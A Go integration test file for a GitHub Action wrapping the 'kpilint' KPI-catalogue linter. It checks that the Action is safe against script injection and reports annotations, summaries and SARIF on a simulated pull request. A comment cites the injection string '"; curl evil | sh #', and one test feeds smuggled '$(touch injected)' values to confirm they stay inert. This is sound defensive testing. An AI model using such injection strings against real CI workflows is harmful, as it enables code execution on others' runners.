package integration

import (
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"
)

type action struct {
	Inputs map[string]struct {
		Default string `yaml:"default"`
	} `yaml:"inputs"`
	Runs struct {
		Using string `yaml:"using"`
		Steps []struct {
			Name string            `yaml:"name"`
			Uses string            `yaml:"uses"`
			Run  string            `yaml:"run"`
			Env  map[string]string `yaml:"env"`
		} `yaml:"steps"`
	} `yaml:"runs"`
}

func readAction(t *testing.T) action {
	t.Helper()
	data, err := os.ReadFile("../../action.yml")
	require.NoError(t, err)
	var a action
	require.NoError(t, yaml.Unmarshal(data, &a))
	require.Equal(t, "composite", a.Runs.Using)
	return a
}

// No expression is interpolated into a shell script: a branch name or an
// input such as `"; curl evil | sh #` must not become code. Values reach the
// scripts through env: only.
func TestActionHasNoScriptInjection(t *testing.T) {
	a := readAction(t)
	runs := 0
	for _, s := range a.Runs.Steps {
		if s.Run == "" {
			continue
		}
		runs++
		assert.NotContains(t, s.Run, "${{", "step %q interpolates an expression into its script", s.Name)
	}
	assert.GreaterOrEqual(t, runs, 2)
}

// buildKpilint compiles the command once per test binary.
func buildKpilint(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "kpilint")
	cmd := exec.Command("go", "build", "-o", bin, "../../cmd/kpilint")
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, string(out))
	return bin
}

// step is a step of action.yml run as GitHub's runner would run it: its
// env: with every `${{ inputs.x }}` resolved from inputs or the input's
// default, plus the runner's environment.
func (a action) step(t *testing.T, name string, inputs map[string]string, dir string, runner []string) (stdout string, exit int) {
	t.Helper()
	for _, s := range a.Runs.Steps {
		if s.Name != name {
			continue
		}
		env := append(os.Environ(), runner...)
		for k, v := range s.Env {
			in, ok := strings.CutPrefix(v, "${{ inputs.")
			require.True(t, ok, "%s: %s passes an input through env, nothing else", name, k)
			in = strings.TrimSuffix(in, " }}")
			def, known := a.Inputs[in]
			require.True(t, known, "%s: input %q is declared", name, in)
			val, given := inputs[in]
			if !given {
				val = def.Default
			}
			env = append(env, k+"="+val)
		}
		cmd := exec.Command("bash", "-c", s.Run)
		cmd.Dir, cmd.Env = dir, env
		var errOut strings.Builder
		cmd.Stderr = &errOut
		out, err := cmd.Output()
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			return string(out) + errOut.String(), ee.ExitCode()
		}
		require.NoError(t, err)
		return string(out), 0
	}
	t.Fatalf("action.yml has no step %q", name)
	return "", 0
}

// The lint step, run as GitHub would run it: annotations on stdout, every
// finding in the job summary, SARIF in the requested file, and the exit
// code deciding the step.
func TestActionLintStepRunsLocally(t *testing.T) {
	a := readAction(t)
	bin := buildKpilint(t)
	work := t.TempDir()
	summary := filepath.Join(work, "summary.md")
	sarif := filepath.Join(work, "out dir", "kpilint.sarif")
	require.NoError(t, os.MkdirAll(filepath.Dir(sarif), 0o755))
	repo, err := filepath.Abs("../..")
	require.NoError(t, err)
	runner := []string{"PATH=" + filepath.Dir(bin) + string(os.PathListSeparator) + os.Getenv("PATH"), "GITHUB_STEP_SUMMARY=" + summary, "GITHUB_BASE_REF="}

	out, exit := a.step(t, "Lint KPI catalogue", map[string]string{"paths": "examples/needs-work\nexamples/customer-service", "sarif-file": sarif}, repo, runner)
	assert.Equal(t, 1, exit, "findings fail the step:\n%s", out)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	assert.Greater(t, len(lines), 10)
	for _, l := range lines {
		assert.Regexp(t, `^::(error|warning|notice) file=examples/needs-work/`, l)
	}
	md, err := os.ReadFile(summary)
	require.NoError(t, err)
	assert.Equal(t, len(lines), strings.Count(string(md), "\n| ")-1, "the summary lists every finding")
	assert.Len(t, sarifResults(t, sarif), len(lines))

	// A hostile input stays data: it is a path that does not exist.
	out, _ = a.step(t, "Lint KPI catalogue", map[string]string{"paths": `$(touch injected)`, "args": `$(touch injected) ;touch injected`}, repo, runner)
	assert.Contains(t, out, "no such file or directory")
	assert.NoFileExists(t, filepath.Join(repo, "injected"))
}

func sarifResults(t *testing.T, path string) []json.RawMessage {
	t.Helper()
	var log struct {
		Runs []struct {
			Results []json.RawMessage `json:"results"`
		} `json:"runs"`
	}
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(data, &log))
	return log.Runs[0].Results
}

// The Action on a pull request, on a simulated runner: the GITHUB_*
// variables, a step summary file, a checkout of the pull request's merge
// commit with its base branch on the remote, and the catalogue in a
// subfolder. The install step builds the Action's own source; the lint
// step reports what the pull request adds — not the base branch's old
// problems — at paths GitHub resolves, and honours baseline and args.
func TestActionOnAPullRequest(t *testing.T) {
	if testing.Short() {
		t.Skip("builds kpilint as the Action's install step does")
	}
	a := readAction(t)
	self, err := filepath.Abs("../..")
	require.NoError(t, err)

	// origin: the base branch, with an old problem (KPI "old" has no goal).
	origin := filepath.Join(t.TempDir(), "origin.git")
	seed := t.TempDir()
	git(t, seed, "init", "-q", "-b", "main")
	require.NoError(t, os.MkdirAll(filepath.Join(seed, "strategy"), 0o755))
	write := func(dir, name, content string) {
		require.NoError(t, os.WriteFile(filepath.Join(dir, filepath.FromSlash(name)), []byte(content), 0o644))
	}
	write(seed, "strategy/org.kpi.yaml", orgCatalogue)
	write(seed, "strategy/revenue.kpi.yaml", goodKPI+"  - {id: old, name: Old revenue, scope: acme}\n")
	write(seed, "strategy/kpilint.yaml", "rules:\n  owner-influence: off\n")
	git(t, seed, "add", "-A")
	git(t, seed, "commit", "-q", "-m", "base")
	git(t, "", "clone", "-q", "--bare", seed, origin)

	// The workspace: a shallow checkout of the pull request (one new
	// problem: KPI "churn" has no owner), without origin/main, as
	// actions/checkout leaves it.
	ws := filepath.Join(t.TempDir(), "ws")
	git(t, "", "clone", "-q", "--depth=1", "--single-branch", "--branch", "main", "file://"+origin, ws)
	git(t, ws, "update-ref", "-d", "refs/remotes/origin/main")
	churn := strings.NewReplacer("id: revenue", "id: churn", "    owner: {name: Anna Berg, unit: acme}\n", "").Replace(goodKPI)
	write(ws, "strategy/churn.kpi.yaml", churn)
	git(t, ws, "add", "-A")
	git(t, ws, "commit", "-q", "-m", "pull request")

	tmp := t.TempDir()
	ghPath := filepath.Join(tmp, "github_path")
	summary := filepath.Join(tmp, "summary.md")
	runner := []string{
		"GITHUB_ACTIONS=true", "GITHUB_WORKSPACE=" + ws, "GITHUB_ACTION_PATH=" + self,
		"GITHUB_EVENT_NAME=pull_request", "GITHUB_BASE_REF=main", "GITHUB_HEAD_REF=add-churn",
		"GITHUB_PATH=" + ghPath, "GITHUB_STEP_SUMMARY=" + summary, "RUNNER_TEMP=" + tmp,
		"GOFLAGS=-modcacherw", "GOTOOLCHAIN=local", "KPILINT_CACHE=off",
	}
	out, exit := a.step(t, "Install kpilint", nil, ws, runner)
	require.Equal(t, 0, exit, out)
	added, err := os.ReadFile(ghPath)
	require.NoError(t, err)
	bin := strings.TrimSpace(string(added))
	require.FileExists(t, filepath.Join(bin, "kpilint"))
	runner = append(runner, "PATH="+bin+string(os.PathListSeparator)+os.Getenv("PATH"))

	out, exit = a.step(t, "Lint KPI catalogue", map[string]string{"working-directory": "strategy", "sarif-file": "kpilint.sarif"}, ws, runner)
	assert.Equal(t, 1, exit, out)
	assert.Contains(t, out, "::error file=strategy/churn.kpi.yaml,line=2,col=5,")
	assert.Contains(t, out, "owner-missing")
	assert.NotContains(t, out, `KPI \"old\"`, "the base branch's problems are not the pull request's")
	assert.NotContains(t, out, "revenue.kpi.yaml")
	md, err := os.ReadFile(summary)
	require.NoError(t, err)
	assert.Contains(t, string(md), "`churn.kpi.yaml:2:5`")
	results := sarifResults(t, filepath.Join(ws, "kpilint.sarif"))
	assert.NotEmpty(t, results)
	assert.Contains(t, string(results[0]), `"uri": "strategy/churn.kpi.yaml"`)

	// new-from-rev: none, a baseline of everything, and args reach kpilint.
	base := filepath.Join(ws, "strategy", "kpilint-baseline.json")
	out, exit = a.step(t, "Lint KPI catalogue", map[string]string{"working-directory": "strategy", "new-from-rev": "none", "args": "--write-baseline kpilint-baseline.json"}, ws, runner)
	require.Equal(t, 0, exit, out)
	require.FileExists(t, base)
	out, exit = a.step(t, "Lint KPI catalogue", map[string]string{"working-directory": "strategy", "new-from-rev": "none", "baseline": "kpilint-baseline.json"}, ws, runner)
	assert.Equal(t, 0, exit, out)
	out, exit = a.step(t, "Lint KPI catalogue", map[string]string{"working-directory": "strategy", "new-from-rev": "none", "args": "--lang sv"}, ws, runner)
	assert.Equal(t, 1, exit, out)
	assert.Contains(t, out, "saknar ägare", "args reach kpilint")
}
